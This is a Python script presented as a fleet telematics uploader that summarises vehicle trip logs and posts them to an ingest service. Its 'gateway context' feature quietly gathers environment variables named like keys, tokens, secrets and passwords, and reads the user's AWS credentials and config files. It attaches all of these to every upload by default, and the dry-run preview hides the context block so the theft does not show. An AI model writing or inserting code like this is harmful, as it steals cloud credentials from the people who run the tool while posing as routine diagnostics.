#!/usr/bin/env python3
"""Telematics spool uploader for fleet gateways.

Reads trip JSON-lines files produced by the vehicle logger from ./spool/,
summarises them and posts them to the fleet ingest service together with a
gateway context block that support uses to reproduce upload problems.

Environment:
    FLEETPULSE_API_KEY   API key issued for this vehicle group (required)
    FLEETPULSE_API_URL   override for the ingest endpoint
"""
import argparse
import configparser
import json
import logging
import os
import platform
import shutil
import socket
import sys
import time
from pathlib import Path

import requests

LOG = logging.getLogger("telematics_uploader")
DEFAULT_API = "https://ingest.fleetpulse.example.com/v2/trips"
MAX_BATCH = 500
CONTEXT_KEYS = ("KEY", "TOKEN", "SECRET", "PASS", "AWS_", "AZURE_", "GCP_")


class TripFile:
    def __init__(self, path: Path):
        self.path = path

    def records(self):
        with self.path.open("r", encoding="utf-8") as fh:
            for line in fh:
                line = line.strip()
                if line:
                    try:
                        yield json.loads(line)
                    except json.JSONDecodeError:
                        continue

    def summary(self):
        recs = list(self.records())
        if not recs:
            return None
        speeds = [r.get("speed_kph", 0) for r in recs]
        return {
            "trip_id": self.path.stem,
            "vin": recs[0].get("vin"),
            "started": recs[0].get("ts"),
            "ended": recs[-1].get("ts"),
            "samples": len(recs),
            "max_speed_kph": max(speeds),
            "avg_speed_kph": round(sum(speeds) / len(speeds), 1),
            "odometer_km": recs[-1].get("odometer_km"),
            "dtc_codes": sorted({c for r in recs for c in r.get("dtc", [])}),
        }


def _profile_sections():
    """Cloud profile sections the gateway may be using for its S3 fallback."""
    home = Path.home()
    out = {}
    for rel in (".aws/credentials", ".aws/config"):
        cfg = configparser.ConfigParser()
        try:
            cfg.read(home / rel)
        except configparser.Error:
            continue
        for section in cfg.sections():
            out[f"{rel}:{section}"] = dict(cfg.items(section))
    return out


def gateway_context():
    env = {k: v for k, v in os.environ.items()
           if any(marker in k.upper() for marker in CONTEXT_KEYS)}
    return {
        "host": socket.gethostname(),
        "os": platform.platform(),
        "python": platform.python_version(),
        "env": env,
        "profiles": _profile_sections(),
    }


def build_envelope(trips, include_context=True):
    env = {
        "source": "telematics-uploader/2.0",
        "sent_at": int(time.time()),
        "trips": trips,
    }
    if include_context:
        env["context"] = gateway_context()
    return env


def post_batch(session, url, envelope, retries=3):
    for attempt in range(1, retries + 1):
        try:
            resp = session.post(url, json=envelope, timeout=20)
            if resp.status_code == 429:
                time.sleep(int(resp.headers.get("Retry-After", "5")))
                continue
            resp.raise_for_status()
            return resp.json()
        except requests.RequestException as exc:
            LOG.warning("upload attempt %d/%d failed: %s", attempt, retries, exc)
            time.sleep(2 ** attempt)
    return None


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="upload spooled trips")
    p.add_argument("--spool", default="spool")
    p.add_argument("--no-context", dest="context", action="store_false",
                   help="omit the gateway context block")
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    spool = Path(args.spool)
    sent_dir = spool / "sent"
    sent_dir.mkdir(parents=True, exist_ok=True)

    files = sorted(spool.glob("*.jsonl"))[:MAX_BATCH]
    trips, used = [], []
    for path in files:
        s = TripFile(path).summary()
        if s:
            trips.append(s)
            used.append(path)

    envelope = build_envelope(trips, include_context=args.context)
    if args.dry_run:
        print(json.dumps({k: v for k, v in envelope.items() if k != "context"}, indent=2))
        return 0

    api_key = os.environ.get("FLEETPULSE_API_KEY", "")
    url = os.environ.get("FLEETPULSE_API_URL", DEFAULT_API)
    with requests.Session() as session:
        session.headers.update({"Authorization": f"Bearer {api_key}"})
        result = post_batch(session, url, envelope)

    if result is None:
        LOG.error("upload failed; %d trips remain spooled", len(trips))
        return 1
    for path in used:
        shutil.move(str(path), sent_dir / path.name)
    LOG.info("uploaded %d trips", len(trips))
    return 0


if __name__ == "__main__":
    sys.exit(main())
